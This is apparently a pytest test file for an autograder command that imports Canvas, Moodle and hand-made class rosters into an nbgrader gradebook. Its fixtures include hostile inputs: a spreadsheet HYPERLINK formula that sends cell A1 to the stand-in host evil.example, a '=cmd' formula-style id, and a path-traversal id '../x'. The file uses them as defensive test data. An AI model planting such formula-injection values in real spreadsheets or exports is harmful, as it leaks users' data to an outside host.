"""Class lists from Canvas, Moodle and by hand go into a real gradebook by the real command."""

import re
import subprocess
import sys

import pytest
from nbgrader.api import Gradebook

from autograder.lms.roster import BadRoster, read_roster
from autograder.spreadsheet import as_csv

HOSTILE = '=HYPERLINK("http://evil.example?x="&A1;"see"),\n🦊'
CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (17)
    Points Possible,,,,,10
"Lovelace, Ada",4711,S1,ada,A,9
"Babbage, Charles",4712,S2,,A,
"Student, Test",99,,,A,
"""
MOODLE = """First name,Last name,ID number,Email address
Ada,Lovelace,S1,ada@example.org
Jürgen,Müller,,jm@example.org
"""
OWN = "id\nada\nben\n"


@pytest.fixture
def course(tmp_path):
    (tmp_path / "nbgrader_config.py").write_text("c = get_config()\n")
    return tmp_path


def roster(course, text, *options):
    (course / "list.csv").write_text(text)
    command = [sys.executable, "-m", "autograder", "roster", "list.csv", *options]
    return subprocess.run(command, cwd=course, capture_output=True, text=True)


def people(course):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        return {
            s.id: (s.first_name, s.last_name, s.email, s.lms_user_id) for s in gradebook.students
        }


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            CANVAS,
            {
                "ada": ("Ada", "Lovelace", None, "4711"),
                "4712": ("Charles", "Babbage", None, "4712"),
            },
        ),
        (
            MOODLE,
            {
                "S1": ("Ada", "Lovelace", "ada@example.org", "S1"),
                "jm@example.org": ("Jürgen", "Müller", "jm@example.org", None),
            },
        ),
        (OWN, {"ada": (None,) * 4, "ben": (None,) * 4}),
    ],
)
def test_each_kind_of_list(course, text, expected):
    done = roster(course, text)
    assert done.returncode == 0, done.stderr
    assert people(course) == expected


def test_odd_ids_and_hostile_names_survive(course):
    names = {"ada": HOSTILE, "=cmd": "=1+1", "o'hara, b": "O'Hara", "müller 🦊": "M"}
    rows = [{"id": name, "first_name": first} for name, first in names.items()]
    done = roster(course, as_csv(["id", "first_name"], rows))
    assert done.returncode == 0, done.stderr
    assert {name: told[0] for name, told in people(course).items()} == names


def test_a_dry_run_says_and_changes_nothing(course):
    roster(course, OWN)
    done = roster(course, "id,first_name\nada,Ada\ncid,Cid\n", "--dry-run")
    assert done.returncode == 0
    assert "new: 1\n  cid" in done.stdout
    assert "brought up to date: 1\n  ada" in done.stdout
    assert "left as they are: ben" in done.stdout
    assert people(course) == {"ada": (None,) * 4, "ben": (None,) * 4}


def test_a_misspelt_dry_run_is_no_run(course):
    done = roster(course, OWN, "--dryrun=yes")
    assert done.returncode == 2
    assert "There is no option --dryrun" in done.stderr
    assert not (course / "gradebook.db").exists()


def test_nobody_comes_in_twice_under_another_id(course):
    roster(course, "id,email\nada,ada@example.org\n")
    done = roster(course, "id,email\nben,ben@example.org\nada@example.org,Ada@example.org\n")
    assert done.returncode == 2
    assert "has the email of ada" in done.stderr
    assert people(course).keys() == {"ada"}


def test_in_another_folder(tmp_path):
    done = roster(tmp_path, OWN, "--dry-run")
    assert done.returncode == 2
    assert "Run this in the course's folder" in done.stderr
    assert not (tmp_path / "gradebook.db").exists()


def test_what_a_list_does_not_say_is_kept(course):
    roster(course, "id,first_name,email\nada,Ada,ada@example.org\n")
    roster(course, "id,last_name\nada,Lovelace\n")
    assert people(course) == {"ada": ("Ada", "Lovelace", "ada@example.org", None)}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "has the columns of no kind"),
        ("Name,Matrikel\nAda,1\n", "has the columns Name, Matrikel"),
        ("id\nada\nada\n", "ada is there twice"),
        ("id,first_name\n../x,Ada\n", "the id of Ada is '../x'"),
        ("id,first_name\n..,Ada\n", "cannot be the name of a folder"),
        ("id,first_name\n,Ada\n", "the id of Ada is ''"),
        (f"id\n{'a' * 200}\n", "longer than 128"),
        ("id,first_name\nada,Jürgen\n".encode("latin-1"), "not in UTF-8"),
    ],
)
def test_a_bad_list_is_refused(tmp_path, text, said):
    path = tmp_path / "list.csv"
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    with pytest.raises(BadRoster, match=re.escape(said)):
        read_roster(path)


def test_a_bad_list_changes_nothing(course):
    done = roster(course, "id\nben\nada\nada\n")
    assert done.returncode == 2
    assert "ada is there twice" in done.stderr
    assert not (course / "gradebook.db").exists()
